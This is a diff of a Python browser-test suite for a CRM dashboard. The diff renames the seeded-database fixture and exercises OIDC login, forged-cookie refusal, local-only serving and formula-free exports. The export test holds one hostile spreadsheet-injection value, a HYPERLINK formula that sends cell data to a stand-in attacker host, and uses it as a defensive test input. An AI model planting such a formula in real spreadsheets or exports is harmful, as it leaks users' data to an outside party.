@@ -31,23 +31,13 @@ from tests.support.browser import (
 from ui.seeding import STEP_LABELS
 
 
-@pytest.fixture(scope="module")
-def seeded_url(tmp_path_factory: pytest.TempPathFactory) -> str:
-    """A DuckDB seeded with demo size XS."""
-    url = f"duckdb:///{tmp_path_factory.mktemp('browser') / 'xs.duckdb'}"
-    engine = sa.create_engine(url)
-    seed_demo(engine, size="XS", seed=42, end=date(2026, 6, 30))
-    engine.dispose()
-    return url
-
-
 def test_data_page_in_chromium(
-    browser: Any, sync_api: Any, seeded_url: str, tmp_path: Path
+    browser: Any, sync_api: Any, xs_demo_url: str, tmp_path: Path
 ) -> None:
-    engine = sa.create_engine(seeded_url)
+    engine = sa.create_engine(xs_demo_url)
     deals = database_info(engine).table("deals").rows
     engine.dispose()
-    app = App(seeded_url, tmp_path / "streamlit.log")
+    app = App(xs_demo_url, tmp_path / "streamlit.log")
     try:
         app.wait_healthy()
         page = open_page(browser, sync_api, f"{app.base}/data")
@@ -55,7 +45,7 @@ def test_data_page_in_chromium(
         card = page.get_by_test_id("stMetric").filter(has_text="Deals")
         sync_api.expect(card.get_by_test_id("stMetricValue")).to_have_text(f"{deals:,}")
         sync_api.expect(page.get_by_test_id("stDataFrame")).to_have_count(2)  # tables, quality
-        sync_api.expect(page.get_by_text(seeded_url).first).to_be_visible()
+        sync_api.expect(page.get_by_text(xs_demo_url).first).to_be_visible()
         page.close()
         home = open_page(browser, sync_api, f"{app.base}/")  # the root lands on the first page
         sync_api.expect(home).to_have_url(f"{app.base}/overview")
@@ -99,12 +89,12 @@ def metric_value(page: Any, label: str) -> Any:
 
 
 def test_overview_and_shared_filter_links(
-    browser: Any, sync_api: Any, seeded_url: str, tmp_path: Path
+    browser: Any, sync_api: Any, xs_demo_url: str, tmp_path: Path
 ) -> None:
     expect = sync_api.expect
-    year = f"{won_deals(seeded_url, '2025-07-01', '2026-06-30'):,}"  # last 12 months to 29 Jun
-    q1 = f"{won_deals(seeded_url, '2026-01-01', '2026-04-01'):,}"
-    app = App(seeded_url, tmp_path / "streamlit.log")  # holds the DuckDB lock from here on
+    year = f"{won_deals(xs_demo_url, '2025-07-01', '2026-06-30'):,}"  # last 12 months to 29 Jun
+    q1 = f"{won_deals(xs_demo_url, '2026-01-01', '2026-04-01'):,}"
+    app = App(xs_demo_url, tmp_path / "streamlit.log")  # holds the DuckDB lock from here on
     try:
         app.wait_healthy()
         page = open_page(browser, sync_api, f"{app.base}/overview")
@@ -160,10 +150,10 @@ def oidc_app(url: str, folder: Path, rep: int, email: str) -> Iterator[tuple[App
 
 
 def test_oidc_login_and_a_tampered_link(
-    browser: Any, sync_api: Any, seeded_url: str, tmp_path: Path
+    browser: Any, sync_api: Any, xs_demo_url: str, tmp_path: Path
 ) -> None:
     expect = sync_api.expect
-    engine = sa.create_engine(seeded_url)
+    engine = sa.create_engine(xs_demo_url)
     with engine.connect() as conn:
         rep, email, team = conn.execute(
             sa.text("SELECT id, email, team_id FROM employees WHERE role = 'rep' ORDER BY id")
@@ -173,8 +163,8 @@ def test_oidc_login_and_a_tampered_link(
             {"t": team},
         ).scalar_one()
     engine.dispose()
-    own = f"{won_deals(seeded_url, '2025-07-01', '2026-06-30', owner=rep):,}"
-    with oidc_app(seeded_url, tmp_path, rep, email) as (app, idp):
+    own = f"{won_deals(xs_demo_url, '2025-07-01', '2026-06-30', owner=rep):,}"
+    with oidc_app(xs_demo_url, tmp_path, rep, email) as (app, idp):
         page = open_page(browser, sync_api, f"{app.base}/overview")
         screenshot_without_exception(page, "login.png")
         assert page.get_by_test_id("stMetric").count() == 0  # nothing before the login
@@ -201,19 +191,19 @@ def test_oidc_login_and_a_tampered_link(
 
 
 def test_oidc_login_reopens_the_shared_link(
-    browser: Any, sync_api: Any, seeded_url: str, tmp_path: Path
+    browser: Any, sync_api: Any, xs_demo_url: str, tmp_path: Path
 ) -> None:
     """A link with a page and filters, opened before the login, is where the user lands after
     the identity provider sends the browser back to the app's root."""
     expect = sync_api.expect
-    engine = sa.create_engine(seeded_url)
+    engine = sa.create_engine(xs_demo_url)
     with engine.connect() as conn:
         rep, email = conn.execute(
             sa.text("SELECT id, email FROM employees WHERE role = 'rep' ORDER BY id")
         ).first()
     engine.dispose()
     link = "/funnel?period=last_quarter&funnel=strict"
-    with oidc_app(seeded_url, tmp_path, rep, email) as (app, idp):
+    with oidc_app(xs_demo_url, tmp_path, rep, email) as (app, idp):
         page = open_page(browser, sync_api, f"{app.base}{link}")
         page.get_by_role("button", name="Log in").click()
         expect(page.get_by_role("heading", name="Funnel", exact=True)).to_be_visible(timeout=60_000)
@@ -261,19 +251,19 @@ def log_out(page: Any, sync_api: Any) -> None:
 
 
 def test_oidc_refuses_unverified_emails_and_role_claims_in_chromium(
-    browser: Any, sync_api: Any, seeded_url: str, tmp_path: Path
+    browser: Any, sync_api: Any, xs_demo_url: str, tmp_path: Path
 ) -> None:
     """Through a real identity provider: a head's e-mail with ``email_verified: false``, a
     stranger and a rep whose tokens say ``roles: ["admin"]`` (before issue #14: the head, an
     admin, an admin)."""
     expect = sync_api.expect
     head = first_employee(
-        seeded_url, "SELECT e.id, e.email FROM teams t JOIN employees e ON e.id = t.head_id"
+        xs_demo_url, "SELECT e.id, e.email FROM teams t JOIN employees e ON e.id = t.head_id"
     )
     rep = first_employee(
-        seeded_url, "SELECT id, email FROM employees WHERE role = 'rep' ORDER BY id"
+        xs_demo_url, "SELECT id, email FROM employees WHERE role = 'rep' ORDER BY id"
     )
-    with oidc_app(seeded_url, tmp_path, *rep) as (app, idp):
+    with oidc_app(xs_demo_url, tmp_path, *rep) as (app, idp):
         page = open_page(browser, sync_api, f"{app.base}/overview")
         log_in_as(page, sync_api, idp, {"email": head[1], "email_verified": False, "name": "M"})
         expect(page.get_by_text("so it cannot be used to log in")).to_be_visible()
@@ -297,7 +287,7 @@ def test_oidc_refuses_unverified_emails_and_role_claims_in_chromium(
 
 
 def test_a_cookie_forged_with_the_example_secret_is_refused(
-    browser: Any, sync_api: Any, seeded_url: str, tmp_path: Path
+    browser: Any, sync_api: Any, xs_demo_url: str, tmp_path: Path
 ) -> None:
     """With the example's ``cookie_secret`` a ``_streamlit_user`` cookie signed by anyone
     logged in as an executive without any identity provider (before issue #14); now the app
@@ -306,13 +296,13 @@ def test_a_cookie_forged_with_the_example_secret_is_refused(
 
     expect = sync_api.expect
     exec_email = first_employee(
-        seeded_url, "SELECT id, email FROM employees WHERE role = 'exec' ORDER BY id"
+        xs_demo_url, "SELECT id, email FROM employees WHERE role = 'exec' ORDER BY id"
     )[1]
     secret = example_cookie_secret()
     with OidcProvider() as idp:  # configured, never used
         port = free_port()
         secrets = idp.streamlit_secrets(app_port=port, cookie_secret=secret)
-        app = App(seeded_url, tmp_path / "streamlit.log",
+        app = App(xs_demo_url, tmp_path / "streamlit.log",
                   secrets=secrets + '\n[crm_auth]\nmode = "oidc"\n', port=port)  # fmt: skip
         try:
             app.wait_healthy()
@@ -350,13 +340,13 @@ def default_report(url: str, report: Any) -> Any:
 
 
 def test_funnel_page_in_chromium(
-    browser: Any, sync_api: Any, seeded_url: str, tmp_path: Path
+    browser: Any, sync_api: Any, xs_demo_url: str, tmp_path: Path
 ) -> None:
     from reports.funnel import funnel_report
 
     expect = sync_api.expect
-    report = default_report(seeded_url, funnel_report)
-    app = App(seeded_url, tmp_path / "streamlit.log")
+    report = default_report(xs_demo_url, funnel_report)
+    app = App(xs_demo_url, tmp_path / "streamlit.log")
     try:
         app.wait_healthy()
         page = open_page(browser, sync_api, f"{app.base}/funnel")
@@ -400,13 +390,13 @@ def test_funnel_page_in_chromium(
 
 
 def test_activity_and_incentives_pages_in_chromium(
-    browser: Any, sync_api: Any, seeded_url: str, tmp_path: Path
+    browser: Any, sync_api: Any, xs_demo_url: str, tmp_path: Path
 ) -> None:
     from reports.activity import activity_report
 
     expect = sync_api.expect
-    report = default_report(seeded_url, activity_report)
-    app = App(seeded_url, tmp_path / "streamlit.log")
+    report = default_report(xs_demo_url, activity_report)
+    app = App(xs_demo_url, tmp_path / "streamlit.log")
     try:
         app.wait_healthy()
         page = open_page(browser, sync_api, f"{app.base}/activity")
@@ -446,7 +436,7 @@ def edit_cell(page: Any, x: float, y: float, text: str) -> None:
 
 
 def test_a_plan_created_in_the_editor_shows_its_scorecards(
-    browser: Any, sync_api: Any, seeded_url: str, tmp_path: Path
+    browser: Any, sync_api: Any, xs_demo_url: str, tmp_path: Path
 ) -> None:
     """On a seeded CRM without any plan (no longer marked as a demo, so the app makes no demo
     plan) and an app database of its own: add a row, pick the metric, type weight and target,
@@ -458,7 +448,7 @@ def test_a_plan_created_in_the_editor_shows_its_scorecards(
     expect = sync_api.expect
     url = f"duckdb:///{tmp_path / 'no_plans.duckdb'}"
     app_url = f"sqlite:///{tmp_path / 'app.sqlite'}"
-    shutil.copy(seeded_url.removeprefix("duckdb:///"), tmp_path / "no_plans.duckdb")
+    shutil.copy(xs_demo_url.removeprefix("duckdb:///"), tmp_path / "no_plans.duckdb")
     engine = sa.create_engine(url)
     with engine.begin() as conn:
         conn.execute(sa.text("DELETE FROM demo_truth"))
@@ -516,9 +506,9 @@ CUT_TEXTS = """() => [...document.querySelectorAll(
 
 
 def test_kpi_cards_are_never_cut_off(
-    browser: Any, sync_api: Any, seeded_url: str, tmp_path: Path
+    browser: Any, sync_api: Any, xs_demo_url: str, tmp_path: Path
 ) -> None:
-    app = App(seeded_url, tmp_path / "streamlit.log")
+    app = App(xs_demo_url, tmp_path / "streamlit.log")
     try:
         app.wait_healthy()
         for path in ("overview", "funnel", "activity"):
@@ -640,7 +630,7 @@ def test_password_login_lasts_across_reloads_and_tabs_until_disabled(
 
 
 def test_exported_call_lists_carry_no_formula_in_chromium(
-    browser: Any, sync_api: Any, seeded_url: str, tmp_path: Path
+    browser: Any, sync_api: Any, xs_demo_url: str, tmp_path: Path
 ) -> None:
     """Issue #14 item 6: an account named like a formula, downloaded as Excel and CSV from the
     Overview's largest won deals (before: a live HYPERLINK in Excel, ``=`` as is in CSV)."""
@@ -652,7 +642,7 @@ def test_exported_call_lists_carry_no_formula_in_chromium(
     expect = sync_api.expect
     hostile = '=HYPERLINK("http://evil.example/?leak="&B2,"Acme")'
     copy = tmp_path / "hostile.duckdb"
-    shutil.copy(seeded_url.removeprefix("duckdb:///"), copy)
+    shutil.copy(xs_demo_url.removeprefix("duckdb:///"), copy)
     engine = sa.create_engine(f"duckdb:///{copy}")
     with engine.begin() as conn:  # the account of the largest deal won in the last 12 months
         account = conn.execute(
@@ -730,7 +720,7 @@ def network_address() -> str | None:
 
 
 def test_local_mode_serves_this_computer_only_in_chromium(
-    browser: Any, sync_api: Any, seeded_url: str, tmp_path: Path
+    browser: Any, sync_api: Any, xs_demo_url: str, tmp_path: Path
 ) -> None:
     """Issue #14 item 9: in auth mode none (everyone is an admin) the dashboard refuses a server
     listening on every address, another computer and a request through a proxy."""
@@ -738,7 +728,7 @@ def test_local_mode_serves_this_computer_only_in_chromium(
     here = network_address()
     if here is None:
         pytest.skip("this computer has no address but a loopback one")
-    app = App(seeded_url, tmp_path / "everywhere.log", address="0.0.0.0")
+    app = App(xs_demo_url, tmp_path / "everywhere.log", address="0.0.0.0")
     try:
         app.wait_healthy()
         page = open_page(browser, sync_api, f"{app.base}/overview")
@@ -758,7 +748,7 @@ def test_local_mode_serves_this_computer_only_in_chromium(
         app.stop()
     assert "refused a request: the server is set to listen on 0.0.0.0" in app.log.read_text()
 
-    app = App(seeded_url, tmp_path / "local.log")  # 127.0.0.1, as .streamlit/config.toml says
+    app = App(xs_demo_url, tmp_path / "local.log")  # 127.0.0.1, as .streamlit/config.toml says
     try:
         app.wait_healthy()
         page = open_page(browser, sync_api, f"{app.base}/overview")
@@ -774,7 +764,7 @@ def test_local_mode_serves_this_computer_only_in_chromium(
     finally:
         app.stop()
 
-    opened = App(seeded_url, tmp_path / "open.log", address="0.0.0.0",
+    opened = App(xs_demo_url, tmp_path / "open.log", address="0.0.0.0",
                  env={"CRM_ALLOW_REMOTE_NONE": "1"})  # fmt: skip
     try:
         opened.wait_healthy()
